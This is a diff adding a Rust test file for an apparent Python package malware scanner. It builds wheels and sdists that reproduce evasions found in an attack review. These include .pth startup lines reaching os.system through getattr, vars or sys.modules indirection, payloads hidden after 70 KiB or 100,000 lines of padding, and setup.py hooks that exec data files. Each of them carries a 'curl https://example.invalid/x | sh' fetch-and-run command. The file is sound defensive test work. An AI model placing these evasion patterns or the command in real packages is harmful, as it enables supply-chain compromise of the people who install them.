@@ -1,0 +1,170 @@
+//! Issue 21: evasions that an attack review found coming out clean or only
+//! `suspicious`. Each case is a harmless reproduction (the payload is `curl
+//! https://example.invalid/x | sh` or a command read from a data file; nothing runs)
+//! built in memory as a wheel or an sdist, and must now be `malicious`; each has a
+//! benign look-alike that must stay below it.
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use assay_core::{Artifact, ArtifactFormat, Verdict};
+use common::entry;
+
+const CMD: &str = "'curl https://example.invalid/x | sh'";
+
+fn wheel(files: &[(&str, &[u8])]) -> Artifact {
+    let mut a = Artifact::new("demo-1.0-py3-none-any.whl", ArtifactFormat::Wheel);
+    for (p, d) in files {
+        a.entries.push(entry(p, d));
+    }
+    a.entries.push(entry(
+        "demo-1.0.dist-info/METADATA",
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    ));
+    a.entries.push(entry(
+        "demo-1.0.dist-info/WHEEL",
+        b"Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    ));
+    a.entries.push(entry("demo-1.0.dist-info/RECORD", b""));
+    a
+}
+
+fn sdist(files: &[(&str, &[u8])]) -> Artifact {
+    let mut a = Artifact::new("demo-1.0.tar.gz", ArtifactFormat::Sdist);
+    a.entries.push(entry(
+        "demo-1.0/PKG-INFO",
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    ));
+    for (p, d) in files {
+        a.entries.push(entry(&format!("demo-1.0/{p}"), d));
+    }
+    a
+}
+
+fn verdict(a: &Artifact) -> (Verdict, Vec<String>) {
+    let r = assay_rules::analyze_artifact(a);
+    let v = assay_rules::score(&r.findings).0;
+    let codes = r
+        .findings
+        .iter()
+        .map(|f| {
+            format!(
+                "{} {:?} {} {}",
+                f.rule.code, f.severity, f.location.path, f.evidence
+            )
+        })
+        .collect();
+    (v, codes)
+}
+
+fn assert_malicious(what: &str, a: &Artifact) {
+    let (v, f) = verdict(a);
+    assert_eq!(v, Verdict::Malicious, "{what}: {f:#?}");
+}
+
+fn assert_not_malicious(what: &str, a: &Artifact) {
+    let (v, f) = verdict(a);
+    assert_ne!(v, Verdict::Malicious, "{what}: {f:#?}");
+}
+
+/// Item 1: `.pth` lines reaching `os.system` through indirection.
+#[test]
+fn pth_lines_with_indirection_are_malicious() {
+    let lines = [
+        format!("import os; getattr(os, 'sys'+'tem')({CMD})"),
+        format!("import sys; sys.modules['os'].system({CMD})"),
+        format!("import os; os.__dict__['system']({CMD})"),
+        format!("import os; vars(os)['system']({CMD})"),
+        format!("import os, operator; operator.methodcaller('system', {CMD})(os)"),
+        format!("import os; (lambda f: f({CMD}))(os.system)"),
+    ];
+    for line in &lines {
+        let a = wheel(&[
+            ("demo/__init__.py", b""),
+            ("demo_init.pth", line.as_bytes()),
+        ]);
+        assert_malicious(line, &a);
+    }
+    // The benign shape: setuptools' distutils hack.
+    let benign = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
+    assert_not_malicious(
+        "distutils-precedence.pth",
+        &wheel(&[("distutils-precedence.pth", benign.as_bytes())]),
+    );
+}
+
+/// Item 2: the payload after 64 KiB of one `.pth` line, or after 100,000 filler lines.
+#[test]
+fn oversized_pth_lines_and_files_are_malicious() {
+    let long = format!(
+        "import os; x = '{}'; os.system({CMD})\n",
+        "A".repeat(70 * 1024)
+    );
+    assert_malicious("70 KiB line", &wheel(&[("demo_init.pth", long.as_bytes())]));
+    let many = format!("{}import os; os.system({CMD})\n", "./lib\n".repeat(100_001));
+    assert_malicious(
+        "100,001 lines",
+        &wheel(&[("demo_init.pth", many.as_bytes())]),
+    );
+    // A long list of plain path lines is nothing but paths.
+    let paths = "./lib\n".repeat(100_001);
+    assert_not_malicious("paths only", &wheel(&[("demo.pth", paths.as_bytes())]));
+}
+
+/// Item 3: a module imported by a `.pth` line runs a command it reads from a sibling
+/// data file, at every interpreter start.
+#[test]
+fn module_imported_by_a_pth_line_runs_at_startup() {
+    let boot =
+        b"import os\nos.system(open(os.path.join(os.path.dirname(__file__), 'cmd.txt')).read())\n";
+    let a = wheel(&[
+        ("demo/__init__.py", b""),
+        ("demo/_boot.py", boot),
+        ("demo/cmd.txt", b"curl https://example.invalid/x | sh\n"),
+        ("demo_init.pth", b"import demo._boot\n"),
+    ]);
+    assert_malicious("pth -> module -> command from file", &a);
+    // The same module that nobody imports at startup is ordinary runtime-free import code.
+    let b = wheel(&[
+        ("demo/__init__.py", b""),
+        (
+            "demo/_boot.py",
+            b"import os\nVERSION = open(os.path.join(os.path.dirname(__file__), 'v.txt')).read()\n",
+        ),
+        ("demo_init.pth", b"import demo._boot\n"),
+    ]);
+    assert_not_malicious("pth -> module reading a version file", &b);
+}
+
+/// Item 7: setup code executing a data file, a command read from a file in a `cmdclass`
+/// override, and an in-tree build backend.
+#[test]
+fn setup_code_that_executes_data_files_is_analysed() {
+    let payload = format!("import os\nos.system({CMD})\n");
+    let setup = b"from setuptools import setup\nexec(open('build.cfg').read())\nsetup(name='demo', version='1.0')\n";
+    let a = sdist(&[("setup.py", setup), ("build.cfg", payload.as_bytes())]);
+    assert_malicious("exec(open('build.cfg').read())", &a);
+
+    let setup = b"import runpy\nfrom setuptools import setup\nrunpy.run_path('helpers.txt')\nsetup(name='demo', version='1.0')\n";
+    let a = sdist(&[("setup.py", setup), ("helpers.txt", payload.as_bytes())]);
+    assert_malicious("runpy.run_path('helpers.txt')", &a);
+
+    let setup = b"import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        os.system(open('cmd.txt').read())\n        install.run(self)\n\nsetup(name='demo', version='1.0', cmdclass={'install': Install})\n";
+    let a = sdist(&[
+        ("setup.py", setup),
+        ("cmd.txt", b"curl https://example.invalid/x | sh\n"),
+    ]);
+    assert_malicious("cmdclass running a command read from a file", &a);
+
+    // Benign: a setup script reading its README and a version file.
+    let setup = b"from setuptools import setup\nlong = open('README.md').read()\nexec(open('demo/version.py').read())\nsetup(name='demo', version=__version__, long_description=long)\n";
+    let a = sdist(&[
+        ("setup.py", setup),
+        (
+            "README.md",
+            b"# demo\n\n```python\nimport os\nos.system('make')\n```\n",
+        ),
+        ("demo/version.py", b"__version__ = '1.0'\n"),
+    ]);
+    assert_not_malicious("README + version.py", &a);
+}
